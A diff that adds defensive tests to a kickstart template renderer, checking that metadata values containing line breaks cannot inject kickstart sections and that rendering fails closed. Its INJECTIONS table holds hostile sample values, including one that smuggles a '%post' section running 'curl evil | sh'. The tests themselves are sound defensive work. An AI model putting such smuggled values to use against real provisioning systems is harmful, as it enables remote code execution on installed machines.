@@ -5,10 +5,13 @@ from __future__ import annotations
 from pathlib import Path
 
 import pytest
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
 
 from provisioner.errors import RenderError
 from provisioner.render.configs import Renderer
-from tests.render.fixtures import RHEL9, ctx, web01
+from tests.conftest import ROOT
+from tests.render.fixtures import RHEL5, RHEL9, ctx, web01
 
 GOOD_HEAD = "text\nurl --url={{ tree_url }}\n" + "# padding\n" * 50
 
@@ -97,3 +100,55 @@ def test_edited_template_is_picked_up_without_restart(tmp_path: Path) -> None:
     st = path.stat()
     os.utime(path, (st.st_atime, st.st_mtime + 5))
     assert r.render("ks", c) == "text\nreboot\n"
+
+
+INJECTIONS = {
+    "metadata-lang": ({"lang": "en_US.UTF-8\n%post\ncurl evil | sh"}, "kickstarts/rhel9-guest.ks"),
+    "metadata-timezone-cr": ({"timezone": "UTC\r%pre"}, "kickstarts/rhel9-guest.ks"),
+    "metadata-unicode-line-separator": ({"keyboard": "us\u2028%pre"}, "kickstarts/rhel9-guest.ks"),
+    "repo-baseurl": ({"repos": [{"name": "x", "baseurl": "http://a/\nreboot"}]},
+                     "snippets/repositories"),
+    "package-name": ({"packages": ["vim\n%post"]}, "kickstarts/rhel9-guest.ks"),
+}
+
+
+@pytest.mark.parametrize("case", sorted(INJECTIONS), ids=sorted(INJECTIONS))
+def test_line_break_in_a_value_fails_closed(case: str) -> None:
+    """A value may not inject kickstart lines: the render fails, naming template and line."""
+    metadata, template = INJECTIONS[case]
+    r = Renderer(ROOT / "templates")
+    with pytest.raises(RenderError, match="contains a line break") as info:
+        r.render("ks", ctx(RHEL9, "rhel9-guest.ks", system=web01(), metadata=metadata))
+    assert info.value.template == template and info.value.line
+
+
+def test_kernel_parameters_collapse_whitespace() -> None:
+    """Kernel options are whitespace-separated words: line breaks in them become spaces."""
+    text = Renderer(ROOT / "templates").render("ks", ctx(
+        RHEL9, "rhel9-guest.ks", metadata={"extra_kernel_params": {"a": "b\nc", "quiet": None}}))
+    assert 'bootloader --append="a=b c quiet"' in text.splitlines()
+
+
+def test_multiline_is_allowed_where_marked() -> None:
+    text = Renderer(ROOT / "templates").render("ks", ctx(
+        RHEL9, "rhel9-guest.ks", system=web01(), hypervisor="kvm",
+        metadata={"paravirt_post": "modprobe virtio_net\nmodprobe virtio_blk\n"}))
+    assert "modprobe virtio_net\nmodprobe virtio_blk\n" in text
+
+
+SHIPPED = Renderer(ROOT / "templates")
+
+
+@settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.too_slow])
+@given(value=st.text(max_size=40), key=st.sampled_from(["lang", "keyboard", "timezone",
+                                                        "installation_number", "nameserver"]))
+def test_no_value_adds_or_removes_kickstart_lines(value: str, key: str) -> None:
+    """Property: whatever an admin puts in a one-line metadata field, the kickstart keeps its
+    shape (same number of lines) or the render fails with RenderError, never anything else."""
+    r = SHIPPED
+    base = r.render("ks", ctx(RHEL5, "rhel5-guest.ks", system=web01(), metadata={key: "x"}))
+    try:
+        text = r.render("ks", ctx(RHEL5, "rhel5-guest.ks", system=web01(), metadata={key: value}))
+    except RenderError:
+        return
+    assert len(text.splitlines()) == len(base.splitlines())
